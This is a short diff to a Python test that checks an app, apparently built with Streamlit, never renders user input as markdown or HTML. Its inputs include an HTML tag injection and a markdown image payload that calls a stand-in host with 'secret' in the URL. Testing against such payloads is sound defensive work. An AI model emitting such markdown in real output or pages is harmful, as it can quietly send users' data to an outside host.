@@ -291,7 +291,8 @@ def test_what_people_type_is_never_rendered_as_markdown(engine):
     at.text_input(key="home_expert").input("Eve <b>bold</b>")
     at.text_input(key="home_topic").input("![x](http://elsewhere.invalid/?data=secret)")
     no_exception(at.button(key="home_start").click().run())
-    assert "![x](" not in at.title[0].value
+    topic = at.markdown[0].value
+    assert "elsewhere" in topic and "![x](" not in topic
     assert "<b>" not in at.caption[0].value
 
 
